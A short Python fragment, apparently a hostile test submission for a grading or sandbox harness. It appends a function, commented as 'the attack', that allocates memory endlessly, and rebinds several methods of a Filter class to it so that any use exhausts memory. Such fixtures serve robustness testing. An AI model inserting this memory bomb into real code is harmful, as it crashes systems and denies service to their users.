

# --- the attack, appended to the stub --------------------------------------

def _attack(*args, **kwargs):
    hoard = []
    while True:
        hoard.append(b"x" * (32 << 20))


Filter.__init__ = Filter.get_weights = Filter.get_bias = Filter.update = _attack
